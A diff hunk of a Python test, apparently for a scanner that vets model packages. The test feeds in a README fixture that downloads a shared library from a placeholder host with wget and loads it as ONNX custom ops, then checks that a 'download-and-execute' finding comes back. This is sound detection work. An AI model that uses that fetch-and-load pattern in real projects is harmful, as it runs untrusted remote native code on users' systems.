@@ -173,5 +173,5 @@ def test_a_group_without_its_end_is_malformed() -> None:
 def test_a_fetched_library_registered_as_custom_ops_is_run(tmp_path: Path) -> None:
     card = ("```bash\nwget https://example.invalid/libdecode.so\n```\n"
             "```python\nso.register_custom_ops_library('./libdecode.so')\n```\n")
-    report = _vet(tmp_path, {"README.md": card, "model.onnx": w.conv_net()})
+    report = _vet(tmp_path, {"README.md": card.encode(), "model.onnx": w.conv_net()})
     assert "download-and-execute" in {f.rule for f in report.findings}
